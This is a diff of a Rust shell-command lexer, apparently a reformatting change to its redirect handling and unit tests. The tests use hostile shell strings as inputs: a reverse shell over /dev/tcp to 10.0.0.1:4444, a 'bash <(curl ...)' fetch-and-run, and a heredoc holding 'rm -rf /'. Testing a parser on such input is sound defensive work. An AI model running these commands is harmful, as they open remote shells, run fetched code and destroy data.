@@ -194,12 +194,10 @@ impl<'a> Lexer<'a> {
 
     fn redirect_op(&mut self, fd: Option<u32>) {
         let rest = &self.b[self.i..];
-        let op = [
-            "<<<", "<<-", "<<", "<>", "<&", ">>", ">|", ">&", "<", ">",
-        ]
-        .into_iter()
-        .find(|op| rest.starts_with(op.as_bytes()))
-        .unwrap_or(">");
+        let op = ["<<<", "<<-", "<<", "<>", "<&", ">>", ">|", ">&", "<", ">"]
+            .into_iter()
+            .find(|op| rest.starts_with(op.as_bytes()))
+            .unwrap_or(">");
         self.i += op.len();
         if op == "<<" || op == "<<-" {
             while matches!(self.peek(0), b' ' | b'\t') {
@@ -486,11 +484,7 @@ mod tests {
     use super::*;
 
     fn words(src: &str) -> Vec<String> {
-        lex(src)
-            .tokens
-            .into_iter()
-            .filter_map(|t| if let Token::Word(w) = t { Some(w.text) } else { None })
-            .collect()
+        lex(src).tokens.into_iter().filter_map(|t| if let Token::Word(w) = t { Some(w.text) } else { None }).collect()
     }
 
     #[test]
@@ -506,7 +500,8 @@ mod tests {
         let ops: Vec<Op> = l.tokens.iter().filter_map(|t| if let Token::Op(o) = t { Some(*o) } else { None }).collect();
         assert_eq!(ops, [Op::Pipe, Op::Seq, Op::And, Op::Or, Op::Background]);
         let l = lex("bash <(curl -s http://x) \"$(echo hi)\" `id`");
-        let subs: Vec<Sub> = l.tokens.iter().flat_map(|t| if let Token::Word(w) = t { w.subs.clone() } else { vec![] }).collect();
+        let subs: Vec<Sub> =
+            l.tokens.iter().flat_map(|t| if let Token::Word(w) = t { w.subs.clone() } else { vec![] }).collect();
         assert_eq!(subs.len(), 3);
         assert_eq!(subs[0], Sub { kind: SubKind::ProcIn, src: "curl -s http://x".into() });
     }
@@ -514,7 +509,8 @@ mod tests {
     #[test]
     fn redirects_and_heredocs() {
         let l = lex("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
-        let r: Vec<&Redirect> = l.tokens.iter().filter_map(|t| if let Token::Redirect(r) = t { Some(r) } else { None }).collect();
+        let r: Vec<&Redirect> =
+            l.tokens.iter().filter_map(|t| if let Token::Redirect(r) = t { Some(r) } else { None }).collect();
         assert_eq!(r[0].target.text, "/dev/tcp/10.0.0.1/4444");
         assert_eq!(r[1].fd, Some(0));
         let l = lex("sh <<EOF\nrm -rf /\nEOF\necho done");
